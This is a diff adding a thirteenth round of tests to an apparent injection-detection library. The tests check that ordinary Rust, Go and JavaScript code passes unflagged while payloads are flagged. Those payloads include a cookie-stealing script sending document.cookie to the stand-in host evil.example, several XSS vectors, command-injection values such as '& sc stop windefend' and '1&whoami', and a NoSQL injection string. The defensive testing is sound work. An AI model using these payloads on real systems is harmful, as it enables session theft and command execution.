@@ -920,3 +920,38 @@ t.test('open redirects (twelfth round): a second URL after a separator, unreserv
   t.notOk(target('h%74%74ps://evil.com', 'q').includes('open_redirect'), 'under no redirect parameter')
   t.notOk(path('/docs/%09intro').includes('open_redirect'), 'a blank in a later segment')
 })
+
+// ---- thirteenth round (issue 22): a program's comment blocks, closing lines, DOM use, type arguments, address-of and statements ----
+
+t.test("false positives (thirteenth round): a program's comment lines and closing lines make it one; its first comment line is text", async (t) => {
+  // a Go doc comment naming elements, a declaration after it: its `//` lines count as the program's (three or more)
+  const doc = '\t// XFrameOptions tells whether a browser should\n\t// be allowed to render a page in a <frame>, <iframe> or <object> .\n\t// Optional. Default value "SAMEORIGIN".\n\tXFrameOptions string'
+  // a test's callbacks closed on lines of their own (`});`), its DOM its own
+  const spec = "    axios('/x');\n\n    get().then(function (request) {\n      expect(request.headers[name]).toEqual(undefined);\n      done();\n    });\n  });\n\n  it('reads the cookie', function (done) {\n    document.cookie = name + '=12345';\n    done();\n  });"
+  for (const p of [doc, spec]) t.notOk(q(p).includes('xss'), p.slice(0, 40))
+  // markup or a DOM sink outside a program still counts; a comment block's payload after it too
+  for (const p of ['<iframe src=//evil.example>', "document.cookie='a='+1", "<script>document.location='//evil.example/?'+document.cookie</script>"]) t.ok(q(p).includes('xss'), p)
+  t.ok(q('// one\n// two\n// three\n<img src=x onerror=alert(1)>').includes('xss'), 'markup after comment lines')
+})
+
+t.test("false positives (thirteenth round): a program's type arguments, address-of operands and statements on lines of their own", async (t) => {
+  const rust = "    #[inline]\n    fn poll_frame(\n        mut self: Pin<&mut Self>,\n    ) -> Poll<Option<Result<Frame<Self::Data>, Self::Error>>> {\n        Pin::new(&mut self.inner).poll_frame(cx)\n    }\n\n    fn is_end_stream(&self) -> bool {\n        self.inner.is_end_stream()\n    }\n\n    fn size_hint(&self) -> SizeHint {\n        self.inner.size_hint()\n    }"
+  t.notOk(q(rust).includes('xss'), 'generic types')
+  const go = 'func StatusCode(err error) int {\n\tvar sc HTTPStatusCoder\n\tif errors.As(err, &sc) {\n\t\treturn sc.StatusCode()\n\t}\n\treturn 0\n}'
+  t.notOk(q(go).includes('rce'), "Go's &sc")
+  const ret = 'func ignorable(err error) bool {\n\tif os.IsNotExist(err) {\n\t\treturn true\n\t}\n\tvar pErr *fs.PathError\n\treturn false\n}'
+  t.notOk(q(ret).includes('nosqli'), 'return true in a block, then a declaration')
+  // the same shapes as payloads
+  for (const p of ['x<frame src=javascript:alert(1)>', '<frameset onload=alert(1)>']) t.ok(q(p).includes('xss'), p)
+  for (const p of ['a & sc query', '& sc stop windefend', '1&whoami']) t.ok(q(p).includes('rce'), p)
+  for (const p of ["'){return true;} var x=('"]) t.ok(q(p).includes('nosqli'), p)
+})
+
+t.test('rce (thirteenth round): a whole value that is a separator then one command line, whatever the program', async (t) => {
+  for (const p of ["; bzgrep 'pattern' file.bz2", '&& dmesg', '|| mysqlshow', '| pgrep sshd', '& diskshadow &', ') & msinfo32 &', '& echo Hello, world &', '$(cpp file.c)', '; ftpwho']) {
+    t.ok(shellInjection(p.toLowerCase()), p)
+    t.ok(q(p).includes('rce'), p)
+  }
+  // one word after a weak separator alone, a table's row, a substitution of one word (jQuery's `$(this)`), prose around the separator
+  for (const p of ['| Home', '& Co', '| name | value |', '$(this)', '$(document)', 'Tom & Jerry', 'see above; then go', '& more text, and more. then']) t.notOk(q(p).includes('rce'), p)
+})
